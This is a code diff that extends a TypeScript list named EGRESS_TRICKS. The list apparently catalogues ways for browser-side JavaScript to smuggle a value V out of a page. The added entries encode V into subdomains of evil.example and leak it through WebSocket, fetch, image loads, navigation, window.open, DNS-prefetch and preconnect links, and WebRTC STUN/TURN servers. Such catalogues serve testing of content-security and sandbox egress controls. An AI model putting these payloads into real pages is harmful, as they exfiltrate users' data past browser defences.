@@ -101,5 +101,22 @@ export const EGRESS_TRICKS: readonly Trick[] = [
   ),
   js('a server of ours', `fetch('http://own.example/?'+V,{mode:'no-cors'})`),
   js('CSP report', `location.href='/csp?'+V`),
+  js('WebSocket to a name that tells', `new WebSocket('ws://'+V+'.evil.example/')`),
+  js('WebSocket over TLS to a name that tells', `new WebSocket('wss://'+V+'.evil.example/')`),
+  js('fetch to a name that tells', `fetch('http://'+V+'.evil.example/',{mode:'no-cors'})`),
+  js('fetch over TLS to a name that tells', `fetch('https://'+V+'.evil.example/',{mode:'no-cors'})`),
+  js('image at a name that tells', `new Image().src='http://'+V+'.evil.example/'`),
+  js('a page at a name that tells', `location.href='https://'+V+'.evil.example/'`),
+  js('a window at a name that tells', `window.open('http://'+V+'.evil.example/')`),
+  js(
+    'names that tell, in links that load ahead',
+    add(
+      `'<link rel=dns-prefetch href="//'+V+'a.evil.example"><link rel=preconnect href="https://'+V+'b.evil.example"><link rel=prefetch href="https://'+V+'c.evil.example/">'`,
+    ),
+  ),
+  js(
+    'WebRTC to a name that tells',
+    `const p=new RTCPeerConnection({iceServers:[{urls:'stun:'+V+'.evil.example:3478'},{urls:'turn:'+V+'.evil.example:443?transport=tcp',username:'a',credential:'b'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))`,
+  ),
   js('a portal of names', `for(let i=0;i<3;i++)new Image().src='http://'+V+i+'.evil.example/x'`),
 ]
